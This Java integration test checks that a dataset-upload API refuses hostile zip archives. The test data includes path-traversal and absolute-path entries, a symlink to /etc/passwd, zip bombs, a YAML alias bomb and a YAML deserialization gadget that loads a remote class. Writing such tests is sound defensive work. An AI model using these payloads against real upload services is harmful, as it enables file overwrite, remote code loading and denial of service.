package dev.yolotrain.service;

import static org.assertj.core.api.Assertions.assertThat;

import dev.yolotrain.service.dataset.DemoDataset;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import tools.jackson.databind.JsonNode;

/** Dataset upload: a good zip is accepted with its report; every hostile or broken one is a 4xx and leaves nothing on disk. */
@DirtiesContext
@SpringBootTest(classes = dev.yolotrain.service.ServerApplication.class, webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class DatasetUploadTest {
    static final Path STORAGE = TestDb.tempStorage("upload");

    @org.junit.jupiter.api.AfterAll
    static void removeStorage() {
        TestDb.deleteStorage(STORAGE);
    }

    @DynamicPropertySource
    static void props(DynamicPropertyRegistry r) {
        TestDb.register(r, "yt_upload", STORAGE, "api", "w-upload");
        r.add("yolotrain.datasets.max-archive-bytes", () -> "3000000");
        r.add("yolotrain.datasets.max-extracted-bytes", () -> "20000000");
        r.add("yolotrain.datasets.max-entries", () -> "300");
    }

    @LocalServerPort
    int port;
    Api api;
    static final byte[] DEMO = DemoDataset.zip(6, 3, 64, 1);

    @BeforeEach
    void setUp() {
        api = new Api(port, TestDb.ADMIN_KEY);
    }

    Api.Res upload(byte[] zip) {
        return api.postMultipart("/api/v1/datasets", Map.of("file", zip, "name", "t"));
    }

    Map<String, byte[]> demo() {
        return new LinkedHashMap<>(Zips.entries(DEMO));
    }

    @Test
    void acceptsAGoodDatasetAndListsGetsAndDeletesIt() {
        Api.Res r = upload(DEMO);
        assertThat(r.status()).as(r.toString()).isEqualTo(201);
        JsonNode d = r.json();
        assertThat(d.get("nc").asInt()).isEqualTo(2);
        assertThat(d.at("/report/splits/train/usable").asInt()).isEqualTo(6);
        assertThat(d.at("/report/splits/val/usable").asInt()).isEqualTo(3);
        assertThat(d.get("report").toString()).doesNotContain(STORAGE.toString());
        String id = d.get("id").asString();
        assertThat(Files.isDirectory(STORAGE.resolve("datasets").resolve(id))).isTrue();
        assertThat(api.get("/api/v1/datasets").text()).contains(id);
        assertThat(api.get("/api/v1/datasets/" + id).json().get("name").asString()).isEqualTo("t");
        assertThat(api.delete("/api/v1/datasets/" + id).status()).isEqualTo(204);
        assertThat(api.get("/api/v1/datasets/" + id).status()).isEqualTo(404);
        assertThat(Files.exists(STORAGE.resolve("datasets").resolve(id))).isFalse();
        assertNothingLeft();
    }

    @Test
    void refusesPathTraversal() {
        Map<String, byte[]> m = demo();
        m.put("demo/../../evil.txt", Zips.text("x"));
        rejected(Zips.of(m), 400, "unsafe-zip-entry", "path traversal");
        assertThat(Files.exists(STORAGE.resolve("evil.txt"))).isFalse();
        assertThat(Files.exists(STORAGE.getParent().resolve("evil.txt"))).isFalse();
    }

    @Test
    void refusesAbsolutePaths() {
        Map<String, byte[]> m = demo();
        m.put("/tmp/yolotrain-evil.txt", Zips.text("x"));
        rejected(Zips.of(m), 400, "unsafe-zip-entry", "absolute");
        assertThat(Files.exists(Path.of("/tmp/yolotrain-evil.txt"))).isFalse();
    }

    @Test
    void refusesSymbolicLinks() {
        rejected(Zips.withSymlink(demo(), "demo/images/train/link.jpg", "/etc/passwd"), 400, "unsafe-zip-entry", "symbolic link");
    }

    @Test
    void refusesWhatIsNotAZip() {
        rejected("just some text, not a zip".getBytes(), 415, "not-a-zip", "not a zip");
    }

    @Test
    void refusesATruncatedZip() {
        rejected(Arrays.copyOf(DEMO, DEMO.length / 2), 400, "corrupt-zip", "truncated or corrupt");
    }

    @Test
    void refusesTooManyEntries() {
        Map<String, byte[]> m = demo();
        for (int i = 0; i < 400; i++) {
            m.put("demo/extra/" + i + ".txt", Zips.text("x"));
        }
        rejected(Zips.of(m), 413, "archive-too-large", "entries");
    }

    @Test
    void refusesAnArchiveOverTheSizeLimit() {
        Map<String, byte[]> m = demo();
        byte[] noise = new byte[3_500_000];
        new Random(1).nextBytes(noise);
        m.put("demo/noise.bin", noise);
        rejected(Zips.of(m), 413, "archive-too-large", "larger than");
    }

    @Test
    void refusesAZipBombByRatio() {
        Map<String, byte[]> m = demo();
        m.put("demo/bomb.txt", new byte[50_000_000]);
        rejected(Zips.of(m), 413, "zip-bomb", "times its compressed size");
    }

    @Test
    void refusesAnArchiveThatInflatesBeyondTheTotalLimit() {
        Map<String, byte[]> m = demo();
        for (int i = 0; i < 30; i++) {
            m.put("demo/pad/" + i + ".bin", new byte[900_000]);
        }
        rejected(Zips.of(m), 413, "zip-bomb", "inflates to more than");
    }

    @Test
    void countsInflatedBytesNotDeclaredSizes() {
        Map<String, byte[]> m = demo();
        m.put("demo/big.bin", new byte[900_000]);
        rejected(Zips.lyingSizes(Zips.of(m), 10), 400, "corrupt-zip", "not the");
    }

    @Test
    void refusesEntriesThatClash() {
        Map<String, byte[]> m = demo();
        m.put("demo/images", Zips.text("a file where a folder is"));
        rejected(Zips.of(m), 400, "unsafe-zip-entry", "clashes");
    }

    @Test
    void refusesADataYamlWithJavaTypes() {
        Map<String, byte[]> m = demo();
        m.put("demo/data.yaml", Zips.text("train: images/train\nval: images/val\nnames: !!javax.script.ScriptEngineManager "
                + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n"));
        rejected(Zips.of(m), 422, "invalid-dataset", "safe");
    }

    @Test
    void refusesAliasBombs() {
        Map<String, byte[]> m = demo();
        StringBuilder y = new StringBuilder("train: images/train\nval: images/val\nnames: [a, b]\na: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'l'; c++) {
            char p = (char) (c - 1);
            y.append(c).append(": &").append(c).append(" [*").append(p).append(", *").append(p).append(", *").append(p)
                    .append(", *").append(p).append("]\n");
        }
        m.put("demo/data.yaml", Zips.text(y.toString()));
        rejected(Zips.of(m), 422, "invalid-dataset", "aliases");
    }

    @Test
    void refusesADataYamlPathOutsideTheArchive() {
        Map<String, byte[]> m = demo();
        m.put("demo/data.yaml", Zips.text("path: /etc\ntrain: images/train\nval: images/val\nnames: [box, disc]\n"));
        rejected(Zips.of(m), 422, "invalid-dataset", "outside the archive");
        m.put("demo/data.yaml", Zips.text("train: ../../../../etc\nval: images/val\nnames: [box, disc]\n"));
        rejected(Zips.of(m), 422, "invalid-dataset", "outside the archive");
    }

    @Test
    void refusesAMissingDataYaml() {
        Map<String, byte[]> m = demo();
        m.remove("demo/data.yaml");
        rejected(Zips.of(m), 422, "invalid-dataset", "no data.yaml");
    }

    @Test
    void refusesLabelsWithUnknownClasses() {
        Map<String, byte[]> m = demo();
        m.put("demo/labels/train/train_0.txt", Zips.text("7 0.5 0.5 0.2 0.2\n"));
        Api.Res r = rejected(Zips.of(m), 422, "invalid-dataset", "");
        assertThat(r.json().get("report").get("ok").asBoolean()).isFalse();
    }

    @Test
    void needsAKeyAndAFilePart() {
        assertThat(api.as(null).postMultipart("/api/v1/datasets", Map.of("file", DEMO)).status()).isEqualTo(401);
        assertThat(api.as("wrong-key").get("/api/v1/datasets").status()).isEqualTo(401);
        Api.Res r = api.postMultipart("/api/v1/datasets", Map.of("name", "x"));
        assertThat(r.status()).isEqualTo(400);
        assertNothingLeft();
    }

    Api.Res rejected(byte[] zip, int status, String type, String detail) {
        Api.Res r = upload(zip);
        assertThat(r.status()).as(r.toString()).isEqualTo(status);
        assertThat(r.contentType()).startsWith("application/problem+json");
        JsonNode p = r.json();
        assertThat(p.get("type").asString()).endsWith("/" + type);
        assertThat(p.get("detail").asString()).containsIgnoringCase(detail);
        assertNothingLeft();
        return r;
    }

    void assertNothingLeft() {
        for (String d : new String[] {"tmp", "datasets"}) {
            try (Stream<Path> s = Files.list(STORAGE.resolve(d))) {
                assertThat(s.toList()).as(d + " after a refused upload").isEmpty();
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        }
    }
}
